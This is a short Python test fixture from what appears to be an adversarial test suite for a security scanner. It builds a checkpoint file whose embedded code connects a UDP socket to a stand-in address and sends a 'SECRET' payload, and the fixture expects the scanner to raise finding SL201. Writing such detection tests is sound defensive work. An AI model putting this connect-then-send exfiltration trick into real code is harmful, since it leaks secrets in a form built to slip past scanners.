"""Class: exfiltration. A datagram socket is connected first, so that the sending names nobody."""

from pathlib import Path

from tests.adversarial.craft import ADDRESS, checkpoint, run

EXPECT = {"address": ADDRESS, "port": 514, "data": "SECRET", "finding": "SL201"}


def make(folder: Path) -> Path:
    source = "import socket; s = socket.socket(type=socket.SOCK_DGRAM); s.connect(('203.0.113.7', 514)); s.send(b'SECRET')"
    return checkpoint(folder, run(source))
